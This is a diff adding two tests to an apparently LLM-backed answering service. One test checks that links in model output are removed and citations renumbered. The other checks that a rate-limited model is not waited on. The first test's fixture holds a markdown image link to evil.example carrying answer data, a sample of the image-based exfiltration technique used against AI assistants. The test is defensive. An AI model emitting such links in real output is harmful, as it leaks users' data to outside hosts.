@@ -173,6 +173,48 @@ test('a model answers from what was found; its made-up sources are dropped', asy
   assert.deepEqual(other.memories.map((each: { content: string }) => each.content), [content]); // prettier-ignore
 });
 
+test('a model gives nothing away by an address, and several numbers in one mark are several', async () => {
+  const answer = 'Nine hundred euros [2, 1, 7]. ![x](http://evil.example/leak?d=900) See [it](//evil.example/900), http://porto.example/roof.'; // prettier-ignore
+  await using model = await startLanguageModel((_, response) =>
+    complete(response, JSON.stringify({ answer, sources: [] })),
+  );
+  await using service = await startService({
+    environment: { SVC_LLM_BASE_URL: model.baseUrl, SVC_LLM_MODEL: 'test' },
+  });
+  const key = await service.owner.key(EVERYTHING);
+  for (const text of [
+    'The roof costs nine hundred euros.',
+    'The roof is on http://porto.example/roof.',
+  ]) {
+    // prettier-ignore
+    await tell(service, text, '2026-03-02T10:00:00Z');
+  }
+  const { body } = await key.call('POST', PATH, { question: 'What does the roof cost?' });
+  assert.equal(body.sources.length, 2);
+  assert.match(
+    body.answer,
+    /^Nine hundred euros \[1\] \[2\]\. +See it, http:\/\/porto\.example\/roof\.$/,
+  );
+  await service.owner.call('POST', '/v2/messages', { text: 'What does the roof cost?' });
+  const [{ text }] = (await service.owner.call('GET', '/v2/messages')).body;
+  assert.match(text, /^Nine hundred euros\. +See it, http/);
+});
+
+test('a model that has no time in time is not waited for', async () => {
+  await using model = await startLanguageModel((_, response) =>
+    response.writeHead(429, { 'Retry-After': '3600' }).end('{}'),
+  );
+  await using service = await startService({
+    environment: { SVC_LLM_BASE_URL: model.baseUrl, SVC_LLM_MODEL: 'test' },
+  });
+  const key = await service.owner.key(EVERYTHING);
+  await tell(service, 'The roof costs nine hundred euros.', '2026-03-02T10:00:00Z');
+  const asked = performance.now();
+  const { body } = await key.call('POST', PATH, { question: 'What does the roof cost?' });
+  assert.match(body.answer, /“The roof costs nine hundred euros/);
+  assert.ok(performance.now() - asked < 5_000, 'it was asked again after some seconds');
+});
+
 test('when the model fails the answer quotes', async () => {
   await using model = await startLanguageModel((_, response) => refuse(response, 500));
   await using service = await startService({
